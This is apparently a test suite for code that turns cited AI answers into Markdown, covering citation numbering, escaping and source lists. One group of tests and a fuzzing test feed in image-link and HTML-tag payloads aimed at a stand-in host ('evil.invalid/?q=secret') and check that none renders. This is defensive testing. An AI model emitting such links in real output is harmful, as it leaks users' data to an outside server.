import assert from 'node:assert/strict';
import { array, assert as check, constantFrom, property } from 'fast-check';
import MarkdownIt from 'markdown-it';
import type { Answer, Verdict } from '../../../src/core/ask/answer';
import { citedMarkdown } from '../../../src/core/ask/cited-markdown';
import { citedSources } from '../../../src/core/ask/cited-sources';
import type { Evidence } from '../../../src/core/ask/evidence';
import { verifiedAnswer } from '../../../src/core/ask/verified-answer';
import type { ArticleId } from '../../../src/core/library/article';
import { markdownText } from '../../../src/core/markdown/markdown-text';

const evidence = (title: string, ...headings: string[]): Evidence => ({
  article: `notes/${title}.md` as ArticleId,
  title,
  headings,
  text: 'Text.',
  line: 1,
  score: 1,
});
const HOLDS: Verdict = { kind: 'supported', span: [0, 5] };
const ANSWER: Answer = {
  by: 'model',
  evidence: [evidence('Uncited'), evidence('A*B', 'Part [1]'), evidence('Second')],
  paragraphs: [
    [
      { markdown: 'It holds.', citations: [{ evidence: 2, verdict: HOLDS }], standing: 'supported' },
      {
        markdown: 'It fails.',
        citations: [{ evidence: 1, verdict: { kind: 'noSuchQuote' } }],
        standing: 'unsupported',
      },
    ],
    [{ markdown: '- one', citations: [{ evidence: 2, verdict: HOLDS }], standing: 'supported' }],
    [{ markdown: '- two', citations: [], standing: 'plain' }],
  ],
};

describe('an answer for other documents', () => {
  it('numbers what it cites in the order in which it is cited', () => {
    assert.deepEqual(citedSources(ANSWER), [2, 1]);
  });

  it('is read as it is written where the library is quoted, and shows no link of it', () => {
    const quoted = 'A volume (lv_root) is read-only: [x](https://a.b) and \\(y).';
    const paragraphs = [[{ markdown: markdownText(quoted), citations: [], standing: 'plain' }]] as const;
    const copied = citedMarkdown(
      { by: 'library', evidence: [], paragraphs },
      { sources: '', cut: '', unsupported: '' },
    );
    assert.match(copied, /^A volume \(lv\\_root\) is read-only/);
    assert.equal(
      new MarkdownIt().renderInline(copied).trim(),
      'A volume (lv_root) is read-only: [x](https://a.b) and \\(y).',
    );
  });

  it('shows rows that are quoted as they are read, and no table of them', () => {
    const item = (row: string) => [{ markdown: `- ${markdownText(row)}`, citations: [], standing: 'plain' }] as const;
    const copied = citedMarkdown(
      { by: 'library', evidence: [], paragraphs: [item('name | size'), item('--- | ---'), item('L1 | 32 KB')] },
      { sources: '', cut: '', unsupported: '' },
    );
    assert.match(copied, /^- name \| size$/m);
    assert.ok(!new MarkdownIt().render(copied).includes('<table'));
  });

  it('has the numbers behind its sentences, says which do not hold, and lists the sources', () => {
    assert.equal(
      citedMarkdown(ANSWER, { sources: 'Sources', cut: 'cut', unsupported: 'not supported' }),
      [
        'It holds. [1] It fails. [2] *(not supported)*',
        '',
        '- one [1]',
        '- two',
        '',
        'Sources:',
        '',
        '1. Second',
        '2. A\\*B > Part \\[1\\]',
        '',
      ].join('\n'),
    );
  });

  it('writes a full stop as one, however careful the passage was written', () => {
    const answer: Answer = {
      ...ANSWER,
      paragraphs: [[{ markdown: '줄어듭니다\\. 1\\. 하나\\*', citations: [], standing: 'plain' }]],
    };
    assert.equal(citedMarkdown(answer, { sources: '', cut: '', unsupported: '' }), '줄어듭니다. 1\\. 하나\\*\n');
  });

  it('says of an answer that was cut off that it was, before anything of it', () => {
    const words = { sources: 'Sources', cut: 'Cut off.', unsupported: '' };
    const code = { markdown: '```\nlet a', citations: [], standing: 'plain' } as const;
    const cut = citedMarkdown({ ...ANSWER, isCut: true, paragraphs: [...ANSWER.paragraphs, [code]] }, words);
    assert.match(cut, /^\*Cut off\.\*\n\nIt holds\. \[1\]/);
    assert.match(cut, /```\nlet a\n```\n\nSources:/);
    assert.ok(!citedMarkdown(ANSWER, words).includes('Cut off.'));
  });

  it('lists nothing where nothing is cited', () => {
    assert.equal(citedMarkdown({ ...ANSWER, paragraphs: [] }, { sources: 'Sources', cut: '', unsupported: '' }), '\n');
  });

  describe('asks for no picture, wherever it is shown', () => {
    // As previews of Markdown have it: tags in a text are tags.
    const preview = new MarkdownIt({ html: true });
    const copied = (written: string): string =>
      citedMarkdown(verifiedAnswer(written, { evidence: [], model: 'm', verify: () => ({ kind: 'unsupported' }) }), {
        sources: '',
        cut: '',
        unsupported: '',
      });
    const picture = '![x](https://evil.invalid/?q=secret)';
    for (const written of [
      picture,
      `\\${picture}`,
      `\\\\${picture}`,
      '\\<img src="https://evil.invalid/x.png">',
      '<!--\n\n~~~\n--><img src="https://evil.invalid/x.png">\n~~~',
      '<pre>\n\n~~~\n</pre><img src="https://evil.invalid/x.png">\n~~~',
      `~~~\na\n~~~\`\n\n~~~\n${picture}\n~~~`,
      `~~~\na\n    ~~~\n\n~~~\n${picture}\n~~~`,
    ]) {
      it(`not for ${JSON.stringify(written)}`, () => {
        assert.doesNotMatch(preview.render(copied(written)), /<img\b/, copied(written));
      });
    }

    it('not behind a formula or front matter that a block of code would end', () => {
      assert.equal(copied(`$$\n\n~~~\n$$\n${picture}\n~~~`), `\\$\\$\n\n~~~\n$$\n${picture}\n~~~\n`);
      assert.equal(copied(`---\n\n~~~\n---\n${picture}\n~~~`), `\\---\n\n~~~\n---\n${picture}\n~~~\n`);
    });

    it('not for anything that is put together of the pieces of such tricks', () => {
      const pieces = [
        ...['', 'text.', '- a', '> b', '~~~', '```', '    ~~~', '~~~`', '~~~~ ', '`', '``', '<!--', '-->', '<pre>'],
        ...['</pre>', '<?', '?>', '<![CDATA[', ']]>', '<div>', '\\', '![x', '](https://evil.invalid)', '[x]: /y'],
        ...[
          picture,
          `\\${picture}`,
          '<img src=x>',
          '\\<img src=x>',
          '--><img src=x>',
          `- ${picture}`,
          `    ${picture}`,
        ],
      ];
      check(
        property(array(constantFrom(...pieces), { maxLength: 12 }), lines => {
          const markdown = copied(lines.join('\n'));
          assert.doesNotMatch(preview.render(markdown), /<(?:img|pre>|div)\b/, markdown);
        }),
        { numRuns: 300 },
      );
    });

    it('and is closed where it was cut off in a block of code', () => {
      assert.equal(copied('~~~ts\nconst a = 1;'), '~~~ts\nconst a = 1;\n~~~\n');
    });
  });
});
